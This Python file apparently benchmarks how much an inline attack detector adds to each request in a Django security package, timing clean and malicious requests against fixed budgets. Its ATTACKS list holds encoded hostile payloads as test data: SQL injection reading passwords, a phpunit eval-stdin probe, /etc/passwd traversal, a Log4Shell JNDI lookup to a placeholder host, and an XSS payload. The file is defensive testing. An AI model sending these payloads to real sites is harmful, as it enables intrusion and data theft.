"""Inline detection (SECURITY_DETECT_INLINE): what inline.refusal() adds to one request, against
build_record() on the same requests (the log record every request already pays for), in one
process. Budgets: <= 2 us for a clean request, <= 50 us for a matching one.

Clean requests are a site's repeated pages with browser headers, with and without a query
string (verdicts on paths and user agents are cached; a query string is read every time).
Also shown: clean requests whose every path is new (the cache never hits), and the mode check
alone (inline off), which is all a site that leaves it off pays.
"""

import time

import benchlib

BROWSER = (
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/131.0.0.0 Safari/537.36"
)
PAGES = [
    ("/", ""),
    ("/blog/2024/05/a-post-about-django/", ""),
    ("/products/", "page=3&sort=-date"),
    ("/search/", "q=eval()+vs+ast.literal_eval()"),
    ("/static/app.3f2a9c.js", ""),
    ("/docs/api/", "utm_source=newsletter&utm_medium=email&utm_campaign=december"),
]
ATTACKS = [
    ("/", "q=1%27%20union%20select%20password%20from%20auth_user--"),
    ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", ""),
    ("/download/", "file=..%2f..%2f..%2fetc%2fpasswd"),
    ("/", "x=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.9%2Fa%7D"),
    ("/search/", "q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"),
]


def requests_of(pairs: list[tuple[str, str]]) -> list:
    from django.test import RequestFactory

    factory = RequestFactory()
    made = []
    for path, query in pairs:
        request = factory.get(
            path,
            QUERY_STRING=query,
            REMOTE_ADDR="192.0.2.10",
            HTTP_USER_AGENT=BROWSER,
            HTTP_REFERER="https://www.example.com/",
        )
        request.client_ip = "192.0.2.10"
        made.append(request)
    return made


def per_call_us(function, requests: list, rounds: int = 7, calls: int = 20_000) -> float:
    """The median over rounds of the mean time of one call, in microseconds."""
    times = []
    for _ in range(rounds):
        started = time.perf_counter()
        for i in range(calls):
            function(requests[i % len(requests)])
        times.append((time.perf_counter() - started) / calls * 1e6)
    return sorted(times)[len(times) // 2]


def run() -> list[benchlib.Result]:
    benchlib.setup_django()
    import logging

    from django.conf import settings

    from security.detection import inline
    from security.requestlog.records import build_record

    logging.getLogger("security.detection.inline").setLevel(logging.ERROR)
    clean, attacks = requests_of(PAGES), requests_of(ATTACKS)

    def record(request) -> object:
        return build_record(request, 200, 0.0)

    def refusal(request) -> object:
        return inline.refusal(request, "192.0.2.10")

    record_us = per_call_us(record, clean)
    off_us = per_call_us(refusal, clean)
    # Set, not override_settings(): that wraps every settings read in a slower object.
    settings.SECURITY_DETECT_INLINE = True
    inline.Mode.current = None
    clean_us = per_call_us(refusal, clean)
    assert all(refusal(r) is None for r in clean), "a clean request was refused"
    assert all(refusal(r) is not None for r in attacks), "an attack was served"
    attack_us = per_call_us(refusal, attacks, calls=2_000)
    counter = iter(range(10**9))
    fresh = requests_of([(f"/blog/{n}/a-post/", "") for n in range(40_000)])

    def new_path(request) -> object:
        return refusal(fresh[next(counter) % len(fresh)])

    new_us = per_call_us(new_path, clean, rounds=3, calls=10_000)
    baseline = ("build_record", record_us)
    return [
        benchlib.Result("inline off: the mode check", off_us, "us", *baseline, "-", True),
        benchlib.Result(
            "inline on: clean request", clean_us, "us", *baseline, "<= 2 us", clean_us <= 2
        ),
        benchlib.Result("inline on: clean request, new path", new_us, "us", *baseline, "-", True),
        benchlib.Result(
            "inline on: matching request", attack_us, "us", *baseline, "<= 50 us", attack_us <= 50
        ),
    ]


if __name__ == "__main__":
    benchlib.print_results(run())
